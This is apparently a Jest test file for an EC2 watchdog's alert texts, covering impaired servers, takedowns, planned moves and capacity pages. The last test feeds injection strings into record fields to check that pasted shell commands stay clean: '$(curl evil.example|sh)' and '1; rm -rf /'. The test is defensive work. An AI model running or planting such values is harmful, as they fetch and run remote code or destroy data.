import type { AsFound, Attempt, Incident } from '../../../lambda/core/incident';
import { HANDOVERS } from '../../../lambda/core/alert/steps';
import { renderAlert } from '../../../lambda/core/alert/text';
import { laddersOf } from '../../../lambda/core/ladder';
import { isTakedown } from '../../../lambda/core/remediation';
import { minutes } from '../../../lambda/core/time';
import {
  BOOT,
  ID,
  NO_CAPACITY,
  T0,
  aCause,
  aPolicy,
  aRecord,
  anIncident,
  at,
  policiesOf,
} from '../builders';
import { CONTEXT, LABELS, anAlert, text } from './sample';

const found = (impaired: AsFound['impaired'], over: Partial<AsFound> = {}): AsFound => ({
  impaired,
  volumeIds: ['vol-0aa', 'vol-0bb'],
  ...over,
});

const anAct = (
  remediation: Attempt['remediation'],
  seconds: number,
  over: Partial<Attempt> = {},
): Attempt => ({
  remediation,
  reason: isTakedown(remediation) ? 'system-impaired' : 'finish-own-stop',
  at: at(seconds),
  outcome: { kind: 'accepted', at: at(seconds) },
  ...over,
});

const impairedBy = (impaired: AsFound['impaired'], over: Partial<Incident> = {}) =>
  aRecord({
    incident: anIncident({
      condition: 'impaired',
      cause: aCause({ evidence: ['EC2 reports impaired: system status check (the host)'] }),
      progress: { kind: 'booting', launchTime: BOOT, since: at(120) },
      openedAt: at(120),
      asFound: found(impaired),
      timeline: [{ at: at(120), decision: 'defer', reason: 'awaiting-aws-recovery' }],
      ...over,
    }),
  });

const timeline = (decision: 'remediate' | 'defer', reason: string) =>
  [{ at: at(120), decision, reason }] as Incident['timeline'];

describe('the first message about an impaired server', () => {
  it('says which check, since when, and what comes when at the earliest', () => {
    const { subject, email } = text(anAlert('opened'), impairedBy(['system']));
    expect(subject).toBe(
      "pod-23 impaired, its host is at fault at 12:10 UTC, AWS's own recovery first",
    );
    expect(email).toContain('runs but is impaired since 12:10:07 UTC');
    expect(email).toContain('EC2 reports impaired: system status check (the host).');
    expect(email).toContain(
      "Expect   AWS's own recovery has until 12:15:07 UTC (05:15 PDT), then stop and start on another host.",
    );
  });

  it('names the rungs in their order, and NOT AWS where it is not waited for', () => {
    const record = impairedBy(['instance'], { timeline: timeline('defer', 'takedown-unchecked') });
    const { email } = text(anAlert('opened'), record);
    expect(email).toContain(
      'Expect   reboot at 12:12:07 UTC (05:12 PDT) at the earliest, then stop and start on another host if that does not help within 8 min.',
    );
    expect(email).not.toContain("AWS's own recovery");
  });

  it('says on what terms a rung is taken', () => {
    const rung = { remediation: 'stop-start', requires: ['capacity-proof'] } as const;
    const policy = aPolicy({ ladders: laddersOf({ 'system-impaired': [rung] }, minutes(2)) });
    const context = { ...CONTEXT, policies: policiesOf(policy) };
    const { email } = renderAlert(anAlert('opened'), impairedBy(['system']), context);
    expect(email).toContain('(once a place is reserved for it)');
  });

  it('leaves out the restart of the service where no document does it', () => {
    const record = impairedBy(['application'], { timeline: timeline('defer', 'startup-grace') });
    expect(text(anAlert('opened'), record).email).not.toContain('restart of its service');
    const policies = policiesOf(aPolicy({ restartDocument: 'LiveChat-Restart' }));
    const { email } = renderAlert(anAlert('opened'), record, { ...CONTEXT, policies });
    expect(email).toContain('Expect   restart of its service at');
  });

  it('names the volumes where those are the trouble, and NOT otherwise', () => {
    const page = anAlert('needs-person', { reason: 'impaired' });
    expect(text(page, impairedBy(['attachedEbs'])).email).toContain('Volumes  vol-0aa, vol-0bb');
    expect(text(page, impairedBy(['system'])).email).not.toContain('Volumes');
  });

  it('of an older version, without what was found, still has its form', () => {
    const { email } = text(anAlert('opened'), impairedBy([], { asFound: undefined }));
    expect(email).toContain('what its policy lists for this check');
    for (const line of email.split('\n').slice(1)) expect(line).toMatch(LABELS);
  });
});

describe('a takedown under way', () => {
  it.each([
    ['stop-start', 'stop and start on another host now', 'it is stopped, then started'],
    ['reboot', 'reboot now', 'while it reboots'],
    ['restart-service', 'restart of its service now', 'the server keeps running'],
  ] as const)('%s: what it means for the users, and until when', (remediation, words, expect_) => {
    const record = impairedBy(['system'], {
      timeline: timeline('remediate', 'system-impaired'),
      attempts: [anAct(remediation, 121)],
    });
    const { subject, email } = text(anAlert('opened'), record);
    expect(subject.endsWith(words)).toBe(true);
    expect(email).toContain(expect_);
    expect(email).toContain('the next step follows or you are called');
    expect(email).not.toContain('serving again a minute or two after the start');
  });

  it('serving: each act with its time', () => {
    const record = impairedBy(['system'], {
      outage: { lastKnownGood: at(-60), firstKnownBad: T0, goodAgain: at(500) },
      attempts: [anAct('stop-start', 300), anAct('start', 340)],
      served: [at(500)],
    });
    expect(text(anAlert('serving'), record).email).toContain(
      'Times    detected after 2 min, stop and start on another host requested after 5 min, start requested after 5 min 40 s, serving after 8 min 20 s.',
    );
  });

  it('serving on another type says so, and that its own one comes back', () => {
    const record = { ...impairedBy(['system']), ownType: 'm7i.large' };
    expect(text(anAlert('serving'), record).email).toContain('Type     m6i.large for want of');
    expect(text(anAlert('serving'), impairedBy(['system'])).email).not.toContain('Type ');
  });
});

describe('a planned move', () => {
  const planned = (over: Partial<Incident> = {}) =>
    aRecord({
      incident: anIncident({
        condition: 'planned',
        planned: { eventId: 'instance-event-1', condition: 'stop-scheduled' },
        cause: aCause({ evidence: ['EC2 announces instance-stop for 2024-08-11 12:10 UTC'] }),
        progress: { kind: 'booting', launchTime: BOOT, since: at(1) },
        timeline: timeline('remediate', 'stop-scheduled'),
        attempts: [anAct('stop-start', 2, { reason: 'stop-scheduled' })],
        ...over,
      }),
    });

  it('says that it is done, and why', () => {
    const { subject, email } = text(anAlert('opened'), planned());
    expect(subject).toContain('to be moved, AWS announced work on its host');
    expect(email).toContain('EC2 announces instance-stop');
    expect(email).toContain('Next message when it serves');
  });

  it('back to its own type does NOT blame AWS', () => {
    const cause = aCause({ kind: 'self', evidence: ['It runs on m6a.large'] });
    const { subject, email } = text(anAlert('opened'), planned({ cause }));
    expect(subject).toContain('to go back to its own type');
    expect(`${subject}${email}`).not.toContain('AWS announced');
  });

  it('its outage begins with the move: nothing was detected', () => {
    const served = planned({
      openedAt: at(1),
      outage: { lastKnownGood: T0, firstKnownBad: at(3), goodAgain: at(120) },
      served: [at(120)],
    });
    const { email } = text(anAlert('serving'), served);
    expect(email).toContain('Times    stop and start on another host requested after 0 s, serving');
    expect(email).not.toContain('detected');
  });
});

describe('what holds the watchdog back while it runs', () => {
  it.each(['paused', 'held', 'observe-mode', 'budget-exhausted'] as const)(
    '%s does NOT ask for a start of what runs',
    (reason) => {
      const { subject, email } = text(anAlert('needs-person', { reason }), impairedBy(['system']));
      expect(subject).toContain('pod-23 is impaired');
      expect(`${subject}${email}`).not.toMatch(/not started|If it should run, start it|is down/);
      // The twin: what is down is told as before.
      expect(text(anAlert('needs-person', { reason })).subject).toContain(HANDOVERS[reason].phrase);
    },
  );
});

describe('an SMS about a move that is held back', () => {
  it('asks for a decision, and does NOT say that there is nothing to do', () => {
    const page = anAlert('needs-person', { reason: 'stop-protected', severity: 'warning' });
    expect(text(page).sms).toMatch(/A person must decide/);
    expect(text(page).sms).not.toContain('Nothing to do');
  });
});

describe('the page about missing capacity', () => {
  const short = (over: Partial<Incident> = {}, policy = aPolicy()) =>
    renderAlert(
      anAlert('needs-person', { reason: 'no-capacity' }),
      aRecord({
        incident: anIncident({
          asFound: found([], { elasticIp: '192.0.2.7' }),
          attempts: [
            anAct('start', 60, { outcome: NO_CAPACITY, detail: 'm6i.large' }),
            anAct('start', 200, { outcome: NO_CAPACITY, detail: 'm6a.large' }),
          ],
          ...over,
        }),
      }),
      { ...CONTEXT, policies: policiesOf(policy) },
    ).email;

  it('tells when EC2 last refused each type that the policy lists', () => {
    const policy = aPolicy({ alternateTypes: ['m6a.large', 'm5.large'] });
    expect(short({}, policy)).toContain(
      'Types so far: m6i.large (no capacity at 12:11 UTC), m6a.large (no capacity at 12:13 UTC), m5.large (not tried).',
    );
  });

  it('carries the steps to another zone, each as a command, the old server let go first', () => {
    const lines = short().split('\n');
    const place = (words: string): number => lines.findIndex((line) => line.includes(words));
    const steps = [
      `delete-tags --resources ${ID} --tags Key=watchdog`,
      `create-image --instance-id ${ID}`,
      'describe-subnets',
      'run-instances --image-id IMAGE --instance-type m6i.large',
      'describe-addresses --public-ips 192.0.2.7',
      'Key=watchdog,Value=livechat',
    ].map(place);
    expect(steps).not.toContain(-1);
    expect(steps).toEqual(steps.toSorted((one, other) => one - other));
    expect(lines[place('create-image')]).toContain('(vol-0aa vol-0bb)');
  });

  it('leaves a step out of which the record does not hold what it needs', () => {
    expect(short({ asFound: found([]) })).not.toContain('associate-address');
    expect(short({ asFound: undefined })).toContain('(all of them)');
  });

  // Why this test? A person pastes these into a shell.
  it('does NOT put into a command what could be one', () => {
    const evil = '$(curl evil.example|sh)';
    const email = short({ asFound: { impaired: [], volumeIds: [evil], elasticIp: '1; rm -rf /' } });
    expect(email).not.toContain('evil.example');
    expect(email).not.toContain('rm -rf');
    const policy = aPolicy({ name: evil });
    const record = aRecord({
      label: { name: 'pod', instanceType: evil, zone: evil, policy: evil },
      incident: anIncident(),
    });
    const page = renderAlert(anAlert('needs-person', { reason: 'no-capacity' }), record, {
      ...CONTEXT,
      policies: policiesOf(policy),
    });
    expect(page.email.split('You ')[1]?.split('Incident')[0]).not.toContain('evil.example');
  });
});
